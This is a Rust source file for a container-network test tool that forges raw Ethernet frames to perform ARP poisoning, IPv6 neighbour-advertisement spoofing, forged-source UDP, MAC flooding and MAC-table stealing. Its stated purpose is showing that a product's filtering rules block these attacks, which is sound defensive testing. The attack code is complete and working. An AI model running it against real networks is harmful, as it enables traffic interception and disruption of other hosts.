#![forbid(unsafe_code)]
//! `palisade-netprobe`: the attacks of the network tests (and a TCP throughput probe for the
//! benchmark), run from inside a container that
//! was given CAP_NET_RAW on purpose. Each subcommand forges raw Ethernet frames on a packet
//! socket (or listens on one) and prints one JSON line saying what it did or saw; whether the
//! attack worked is judged from outside (ARP caches, the bridge's forwarding table, what a
//! listener received), so a test can show the same attack failing with palisade's rules and
//! succeeding on a plain bridge.

use std::fs;
use std::net::Ipv4Addr;
use std::os::fd::{AsFd, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{bail, Context};
use clap::{Parser, Subcommand};
use rustix::net::{RecvFlags, SendFlags};
use serde_json::json;

/// Forges and sniffs frames on an interface (default eth0).
#[derive(Debug, Parser)]
#[command(name = "palisade-netprobe")]
struct Cli {
    /// The interface
    #[arg(long, default_value = "eth0")]
    interface: String,
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Debug, Subcommand)]
enum Attack {
    /// ARP replies claiming SENDER_IP is at SENDER_MAC, sent to DST_MAC (ARP poisoning)
    Arp {
        #[arg(long)]
        sender_mac: String,
        #[arg(long)]
        sender_ip: Ipv4Addr,
        #[arg(long)]
        dst_mac: String,
        #[arg(long)]
        target_ip: Ipv4Addr,
        #[arg(long, default_value_t = 20)]
        count: u32,
    },
    /// Unsolicited IPv6 neighbour advertisements (override set) claiming TARGET_IP is at
    /// this interface's MAC, from SRC_IP to DST_IP / DST_MAC (IPv6's ARP poisoning)
    Na {
        #[arg(long)]
        src_ip: std::net::Ipv6Addr,
        #[arg(long)]
        dst_ip: std::net::Ipv6Addr,
        #[arg(long)]
        dst_mac: String,
        #[arg(long)]
        target_ip: std::net::Ipv6Addr,
        #[arg(long, default_value_t = 20)]
        count: u32,
    },
    /// UDP datagrams with a chosen (forged) source MAC and IPv4 address
    Udp {
        #[arg(long)]
        src_mac: String,
        #[arg(long)]
        dst_mac: String,
        #[arg(long)]
        src_ip: Ipv4Addr,
        #[arg(long)]
        dst_ip: Ipv4Addr,
        #[arg(long)]
        port: u16,
        #[arg(long)]
        payload: String,
        #[arg(long, default_value_t = 5)]
        count: u32,
    },
    /// COUNT broadcast frames, each from a different random source MAC (MAC flooding)
    Flood {
        #[arg(long, default_value_t = 5000)]
        count: u32,
    },
    /// Sends frames with the victim's MAC as source (so a learning bridge moves the victim's
    /// entry to this port) while counting the unicast frames for the victim that arrive here
    Steal {
        #[arg(long)]
        victim_mac: String,
        #[arg(long, default_value_t = 3)]
        seconds: u64,
    },
    /// Counts unicast frames from or to MAC that arrive here
    Sniff {
        #[arg(long)]
        mac: String,
        #[arg(long, default_value_t = 3)]
        seconds: u64,
    },
    /// Throughput benchmark, receiving side: accepts one TCP connection on PORT and reads
    /// until it closes
    TcpSink {
        #[arg(long)]
        port: u16,
    },
    /// Throughput benchmark, sending side: writes to ADDRESS for SECONDS
    TcpSource {
        #[arg(long)]
        to: std::net::SocketAddr,
        #[arg(long, default_value_t = 5)]
        seconds: u64,
    },
}

const BROADCAST: [u8; 6] = [0xff; 6];
/// IEEE 802 local experimental EtherType.
const ETHERTYPE_EXPERIMENTAL: u16 = 0x88b5;

fn main() {
    let cli = Cli::parse();
    match run(&cli) {
        Ok(report) => println!("{report}"),
        Err(e) => {
            eprintln!("palisade-netprobe: {e:#}");
            std::process::exit(1);
        }
    }
}

fn parse_mac(text: &str) -> anyhow::Result<[u8; 6]> {
    let mut mac = [0u8; 6];
    let parts: Vec<&str> = text.split(':').collect();
    if parts.len() != 6 {
        bail!("invalid MAC {text:?}");
    }
    for (byte, part) in mac.iter_mut().zip(parts) {
        *byte = u8::from_str_radix(part, 16).with_context(|| format!("invalid MAC {text:?}"))?;
    }
    Ok(mac)
}

/// A packet socket bound to the interface, receiving every EtherType, 50 ms receive timeout.
fn open(interface: &str) -> anyhow::Result<OwnedFd> {
    let index: i32 = fs::read_to_string(format!("/sys/class/net/{interface}/ifindex"))
        .with_context(|| format!("no interface {interface}"))?
        .trim()
        .parse()
        .context("bad ifindex")?;
    let socket = rustix::net::socket(
        rustix::net::AddressFamily::PACKET,
        rustix::net::SocketType::RAW,
        Some(rustix::net::eth::ALL),
    )
    .context("packet socket (needs CAP_NET_RAW)")?;
    palisade_sys::packet::bind_packet_socket(socket.as_fd(), index, 0x0003)
        .context("bind the packet socket")?;
    rustix::net::sockopt::set_socket_timeout(
        &socket,
        rustix::net::sockopt::Timeout::Recv,
        Some(Duration::from_millis(50)),
    )?;
    Ok(socket)
}

fn own_mac(interface: &str) -> anyhow::Result<[u8; 6]> {
    parse_mac(fs::read_to_string(format!("/sys/class/net/{interface}/address"))?.trim())
}

fn ethernet(dst: [u8; 6], src: [u8; 6], ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::with_capacity(14 + payload.len().max(46));
    frame.extend_from_slice(&dst);
    frame.extend_from_slice(&src);
    frame.extend_from_slice(&ethertype.to_be_bytes());
    frame.extend_from_slice(payload);
    frame.resize(frame.len().max(60), 0);
    frame
}

fn arp_reply(
    sender_mac: [u8; 6],
    sender_ip: Ipv4Addr,
    target_mac: [u8; 6],
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    let mut arp = vec![0, 1, 0x08, 0, 6, 4, 0, 2];
    arp.extend_from_slice(&sender_mac);
    arp.extend_from_slice(&sender_ip.octets());
    arp.extend_from_slice(&target_mac);
    arp.extend_from_slice(&target_ip.octets());
    arp
}

fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

fn udp_packet(src: Ipv4Addr, dst: Ipv4Addr, port: u16, payload: &[u8]) -> Vec<u8> {
    let udp_len = 8 + payload.len();
    let total = 20 + udp_len;
    let mut ip = vec![0x45, 0];
    ip.extend_from_slice(&(total as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 1, 0x40, 0, 64, 17, 0, 0]);
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&40000u16.to_be_bytes());
    ip.extend_from_slice(&port.to_be_bytes());
    ip.extend_from_slice(&(udp_len as u16).to_be_bytes());
    ip.extend_from_slice(&[0, 0]); // no UDP checksum (allowed over IPv4)
    ip.extend_from_slice(payload);
    ip
}

/// An IPv6 packet carrying an ICMPv6 neighbour advertisement for `target` with a target
/// link-layer option of `mac` (solicited flag clear, override set), hop limit 255.
fn neighbour_advert(
    src: std::net::Ipv6Addr,
    dst: std::net::Ipv6Addr,
    target: std::net::Ipv6Addr,
    mac: [u8; 6],
) -> Vec<u8> {
    let mut icmp = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
    icmp.extend_from_slice(&target.octets());
    icmp.extend_from_slice(&[2, 1]);
    icmp.extend_from_slice(&mac);
    let mut pseudo = Vec::new();
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
    pseudo.extend_from_slice(&[0, 0, 0, 58]);
    pseudo.extend_from_slice(&icmp);
    let sum = checksum(&pseudo);
    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
    let mut packet = vec![0x60, 0, 0, 0];
    packet.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
    packet.extend_from_slice(&[58, 255]);
    packet.extend_from_slice(&src.octets());
    packet.extend_from_slice(&dst.octets());
    packet.extend_from_slice(&icmp);
    packet
}

fn send(socket: &OwnedFd, frame: &[u8]) -> anyhow::Result<()> {
    rustix::net::send(socket, frame, SendFlags::empty()).context("send a frame")?;
    Ok(())
}

/// xorshift64: enough randomness for source MACs, no dependency.
fn next(state: &mut u64) -> u64 {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    *state
}

/// Counts unicast frames matching `wanted` until `deadline`, calling `tick` between reads.
fn count_frames(
    socket: &OwnedFd,
    deadline: Instant,
    wanted: impl Fn(&[u8]) -> bool,
    mut tick: impl FnMut() -> anyhow::Result<()>,
) -> anyhow::Result<u64> {
    let mut buffer = vec![0u8; 65536];
    let mut seen = 0;
    while Instant::now() < deadline {
        tick()?;
        match rustix::net::recv(socket, &mut buffer, RecvFlags::empty()) {
            Ok((n, _)) if n >= 14 => {
                let frame = &buffer[..n];
                // Unicast only: the I/G bit of the destination is clear.
                if frame[0] & 1 == 0 && wanted(frame) {
                    seen += 1;
                }
            }
            Ok(_) => {}
            Err(e) if e == rustix::io::Errno::AGAIN || e == rustix::io::Errno::INTR => {}
            Err(e) => return Err(e).context("receive"),
        }
    }
    Ok(seen)
}

fn throughput(bytes: u64, elapsed: Duration) -> serde_json::Value {
    let seconds = elapsed.as_secs_f64().max(1e-9);
    json!({"bytes": bytes, "seconds": seconds, "gbit_per_s": bytes as f64 * 8.0 / seconds / 1e9})
}

fn run(cli: &Cli) -> anyhow::Result<serde_json::Value> {
    use std::io::{Read, Write};
    match &cli.attack {
        Attack::TcpSink { port } => {
            let listener = std::net::TcpListener::bind(("0.0.0.0", *port))?;
            let (mut stream, _) = listener.accept()?;
            let start = Instant::now();
            let mut buffer = vec![0u8; 1 << 20];
            let mut total = 0u64;
            loop {
                let n = stream.read(&mut buffer)?;
                if n == 0 {
                    break;
                }
                total += n as u64;
            }
            return Ok(throughput(total, start.elapsed()));
        }
        Attack::TcpSource { to, seconds } => {
            let mut stream = std::net::TcpStream::connect_timeout(to, Duration::from_secs(5))?;
            let buffer = vec![0x5au8; 1 << 20];
            let start = Instant::now();
            let mut total = 0u64;
            while start.elapsed() < Duration::from_secs(*seconds) {
                stream.write_all(&buffer)?;
                total += buffer.len() as u64;
            }
            drop(stream);
            return Ok(throughput(total, start.elapsed()));
        }
        _ => {}
    }
    let socket = open(&cli.interface)?;
    match &cli.attack {
        Attack::Arp {
            sender_mac,
            sender_ip,
            dst_mac,
            target_ip,
            count,
        } => {
            let sender = parse_mac(sender_mac)?;
            let dst = parse_mac(dst_mac)?;
            let frame = ethernet(
                dst,
                sender,
                0x0806,
                &arp_reply(sender, *sender_ip, dst, *target_ip),
            );
            for _ in 0..*count {
                send(&socket, &frame)?;
                std::thread::sleep(Duration::from_millis(100));
            }
            Ok(json!({"attack": "arp", "sent": count}))
        }
        Attack::Na {
            src_ip,
            dst_ip,
            dst_mac,
            target_ip,
            count,
        } => {
            let own = own_mac(&cli.interface)?;
            let packet = neighbour_advert(*src_ip, *dst_ip, *target_ip, own);
            let frame = ethernet(parse_mac(dst_mac)?, own, 0x86dd, &packet);
            for _ in 0..*count {
                send(&socket, &frame)?;
                std::thread::sleep(Duration::from_millis(100));
            }
            Ok(json!({"attack": "na", "sent": count}))
        }
        Attack::Udp {
            src_mac,
            dst_mac,
            src_ip,
            dst_ip,
            port,
            payload,
            count,
        } => {
            let packet = udp_packet(*src_ip, *dst_ip, *port, payload.as_bytes());
            let frame = ethernet(parse_mac(dst_mac)?, parse_mac(src_mac)?, 0x0800, &packet);
            for _ in 0..*count {
                send(&socket, &frame)?;
                std::thread::sleep(Duration::from_millis(20));
            }
            Ok(json!({"attack": "udp", "sent": count}))
        }
        Attack::Flood { count } => {
            let mut state = u64::from(std::process::id()) << 32 | 0x9e37_79b9;
            for _ in 0..*count {
                let bytes = next(&mut state).to_be_bytes();
                // Locally administered unicast source addresses.
                let src = [
                    bytes[2] & 0xfe | 0x02,
                    bytes[3],
                    bytes[4],
                    bytes[5],
                    bytes[6],
                    bytes[7],
                ];
                send(
                    &socket,
                    &ethernet(BROADCAST, src, ETHERTYPE_EXPERIMENTAL, b"flood"),
                )?;
            }
            Ok(json!({"attack": "flood", "sent": count}))
        }
        Attack::Steal {
            victim_mac,
            seconds,
        } => {
            let victim = parse_mac(victim_mac)?;
            let own = own_mac(&cli.interface)?;
            let forged = ethernet(BROADCAST, victim, ETHERTYPE_EXPERIMENTAL, b"steal");
            let mut last = Instant::now() - Duration::from_secs(1);
            let stolen = count_frames(
                &socket,
                Instant::now() + Duration::from_secs(*seconds),
                |frame| frame[..6] == victim && frame[6..12] != own,
                || {
                    if last.elapsed() >= Duration::from_millis(20) {
                        last = Instant::now();
                        send(&socket, &forged)?;
                    }
                    Ok(())
                },
            )?;
            Ok(json!({"attack": "steal", "stolen": stolen}))
        }
        Attack::Sniff { mac, seconds } => {
            let target = parse_mac(mac)?;
            let seen = count_frames(
                &socket,
                Instant::now() + Duration::from_secs(*seconds),
                |frame| frame[..6] == target || frame[6..12] == target,
                || Ok(()),
            )?;
            Ok(json!({"attack": "sniff", "frames": seen}))
        }
        Attack::TcpSink { .. } | Attack::TcpSource { .. } => bail!("handled above"),
    }
}
